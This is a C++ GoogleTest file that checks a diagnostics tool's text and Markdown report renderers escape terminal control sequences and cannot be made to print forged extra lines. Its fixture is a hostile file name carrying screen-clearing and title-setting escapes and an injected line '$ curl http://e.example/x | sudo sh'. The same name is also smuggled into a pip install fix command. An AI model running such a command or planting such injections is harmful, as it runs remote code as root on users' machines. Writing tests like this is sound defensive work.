// Terminal-escape and line injection (issue 12 #7): strings from input reach no terminal raw.
#include <gtest/gtest.h>

#include <algorithm>

#include "util/escape.hpp"
#include "report/report.hpp"

using namespace cd;

namespace {

// A hostile file name: clears the screen, sets the window title, rings the bell, and breaks the
// line to forge a fix command.
const std::string kEvil = "lib\x1b[2J\x1b]0;pwned\x07x.so\n$ curl http://e.example/x | sudo sh";

bool raw_control(const std::string& s) {
  for (size_t i = 0; i < s.size(); ++i) {
    unsigned char c = static_cast<unsigned char>(s[i]);
    if ((c < 0x20 && c != '\n') || c == 0x7f) return true;
    if (c == 0xC2 && i + 1 < s.size() && static_cast<unsigned char>(s[i + 1]) >= 0x80 &&
        static_cast<unsigned char>(s[i + 1]) < 0xA0)
      return true;
  }
  return false;
}

bool forged_line(const std::string& s) {
  return s.find("\n$ curl") != std::string::npos || s.find("\ncurl") != std::string::npos ||
         s.find("  $ curl") != std::string::npos;
}

Finding hostile() {
  Finding f;
  f.id = "arch.no_kernel_image";
  f.severity = Severity::error;
  f.title = "no kernel image in " + kEvil;
  f.subject = kEvil;
  f.evidence = {{"driver 580\x1b[31m.65", kEvil}};
  f.explanation = "why \x9b" "2J";
  f.consequences = {"then \x1b]8;;http://x\x07link"};
  f.fix = {"# rebuild " + kEvil, "pip install --force-reinstall " + kEvil};
  return f;
}

}  // namespace

TEST(Escape, ControlsAndNewlinesBecomeVisibleEscapes) {
  EXPECT_EQ(shown("a\nb\tc\rd"), "a\\nb\\tc\\rd");
  EXPECT_EQ(shown("\x1b[2J"), "\\x1b[2J");
  EXPECT_EQ(shown("bell\x07"), "bell\\x07");
  EXPECT_EQ(shown("del\x7f"), "del\\x7f");
  EXPECT_EQ(shown(std::string("nul\0x", 5)), "nul\\x00x");
  EXPECT_EQ(shown("\xc2\x9b" "2J"), "\\u009b2J");  // C1 CSI as UTF-8
  EXPECT_EQ(shown("\x9b" "2J"), "\\x9b2J");        // a lone 8-bit CSI byte
  EXPECT_EQ(shown("\xff\xfe"), "\\xff\\xfe");
  EXPECT_EQ(shown("\xe0\x80\x80"), "\\xe0\\x80\\x80");  // overlong
}

TEST(Escape, PrintableTextIsUnchanged) {
  for (const char* s : {"NVIDIA H200", "/opt/torch/.venv/lib/python3.12", "✖ ▲ ✓ → ←", "cuDNN 9.19 ×3 ≤ 13.0", "日本語",
                        "\xf0\x9f\x98\x80", "\xc2\xa0nbsp"})
    EXPECT_EQ(shown(s), s);
}

TEST(Escape, FindingsTextNeitherEscapesNorForgesLines) {
  for (int verbose : {0, 1}) {
    for (bool color : {false, true}) {
      ReportOptions o;
      o.style = Style(color);
      o.verbose = verbose;
      std::string out = render_findings_text({hostile()}, o);
      EXPECT_FALSE(forged_line(out)) << out;
      if (!color) {
        EXPECT_FALSE(raw_control(out)) << out;
      }
      EXPECT_EQ(out.find("\x07"), std::string::npos);
      EXPECT_EQ(out.find("\x1b[2J"), std::string::npos);
      EXPECT_EQ(out.find("\x1b]"), std::string::npos);
      EXPECT_NE(out.find("\\x1b[2J"), std::string::npos) << "the escape is shown, not dropped";
    }
  }
}

TEST(Escape, FindingsMarkdownNeitherEscapesNorForgesLines) {
  std::string md = render_findings_markdown({hostile()});
  EXPECT_FALSE(raw_control(md)) << md;
  EXPECT_FALSE(forged_line(md)) << md;
  // The fix block keeps exactly its two commands.
  auto fence = md.find("```sh\n");
  ASSERT_NE(fence, std::string::npos);
  auto end = md.find("\n```", fence + 6);
  std::string block = md.substr(fence + 6, end - fence - 6);
  EXPECT_EQ(std::count(block.begin(), block.end(), '\n'), 1) << block;
}
